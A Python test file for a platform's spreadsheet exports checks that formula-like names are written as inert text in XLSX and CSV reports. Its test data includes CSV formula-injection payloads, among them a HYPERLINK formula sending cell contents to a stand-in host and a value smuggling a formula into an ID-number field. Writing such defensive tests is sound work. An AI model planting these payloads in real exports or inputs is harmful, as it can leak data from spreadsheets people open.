"""Names that begin like formulas go through every file the platform writes for a spreadsheet — the
month's report (XLSX, CSV), the dashboard's work-list exports (XLSX, CSV) and the import report
(CSV) — and come out as text: no formula cell when the workbook is opened, a quoted text in CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from services.activity.care.cadence import HAIMEN
from services.api.figures_report import report_file, table_file
from services.dashboard.i18n import Translator
from services.dashboard.lists import file_table
from services.importing.report import BAD, Entry, write_report
from services.projections.figures.catalogue import complete
from services.projections.pair_compliance.figures import Tally
from services.shared.cells import csv_cell

NAMES = ['=HYPERLINK("http://x.example/"&A1)', "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def cells_of(raw: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def csv_values(raw: bytes) -> list[str]:
    return [value for line in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for value in line]


def assert_xlsx_inert(raw: bytes) -> None:
    cells = cells_of(raw)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = {c.value for c in cells if c.data_type == "s"}
    typed = {name.replace("\r", "\n") for name in NAMES}  # XML keeps no bare carriage return
    assert typed <= texts  # each name as it was typed, a text
    assert all(c.quotePrefix for c in cells if c.value in typed)


def assert_csv_inert(raw: bytes) -> None:
    values = csv_values(raw)
    assert set(f"'{name}" for name in NAMES) <= set(values)
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_helper_quotes_only_what_begins_like_a_formula() -> None:
    assert [csv_cell(name) for name in NAMES] == [f"'{name}" for name in NAMES]
    assert [csv_cell(v) for v in ("李小花", "a=b", "", -2, 1.5, None)] == ["李小花", "a=b", "", -2, 1.5, None]


def _report(fmt: str) -> bytes:
    compliance = Tally(HAIMEN).figures()
    total = {"region": "440000000000", "name": "广东省", **complete({"children": 1}), "compliance": compliance}
    volunteers = [{"id": name, "region": "440105001101", "hours": 1.5, "activities": 2} for name in NAMES]
    teams = [{"id": name, "region": "440105001101", "hours": -2, "activities": 1} for name in NAMES]
    return report_file(fmt, total, [], HAIMEN, volunteers, teams)


def test_the_months_report_as_xlsx() -> None:
    assert_xlsx_inert(_report("xlsx"))
    hours = [c.value for c in cells_of(_report("xlsx")) if c.data_type == "n"]
    assert -2 in hours  # a number stays a number, minus and all


def test_the_work_lists_as_xlsx_and_csv() -> None:
    rows = [{"child_id": f"c-{i}", "name": name, "tier": "red"} for i, name in enumerate(NAMES)]
    headers, lines = file_table(rows, Translator("zh-CN"))
    assert_xlsx_inert(table_file("xlsx", "无人结对", headers, lines))
    assert_csv_inert(table_file("csv", "无人结对", headers, lines))


@pytest.mark.parametrize("fmt", ["csv"])
def test_the_months_report_as_csv_holds_numbers_only(fmt: str) -> None:
    # The CSV report is one table of figures by region (no names typed by anyone); its writer is
    # the work lists' CSV writer, checked above.
    values = csv_values(_report(fmt))
    assert not [v for v in values if v.startswith(("=", "+", "@", "\t", "\r"))]


def test_the_import_report(tmp_path: Path) -> None:
    entries = [Entry(i + 2, "姓名", BAD, f"{name} is not a name", (name, "440105201203080021"))
               for i, name in enumerate(NAMES)]
    raw = write_report(tmp_path / "report.csv", ("姓名", "身份证号"), entries).read_bytes()
    assert_csv_inert_but_id_numbers(raw)


def assert_csv_inert_but_id_numbers(raw: bytes) -> None:
    values = csv_values(raw)
    assert set(f"'{name.strip()}" for name in NAMES) <= set(values)  # the import reads values trimmed
    formulas = [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert set(formulas) == {'="440105201203080021"'}  # the one formula: digits kept as digits


def test_an_id_number_with_more_after_it_is_no_formula(tmp_path: Path) -> None:
    sneaky = '12345678901234567")&HYPERLINK("http://x.example/'
    raw = write_report(tmp_path / "report.csv", ("身份证号",), [Entry(2, "身份证号", BAD, "bad", (sneaky,))]).read_bytes()
    assert sneaky in csv_values(raw) and not any(v.startswith("=") for v in csv_values(raw))
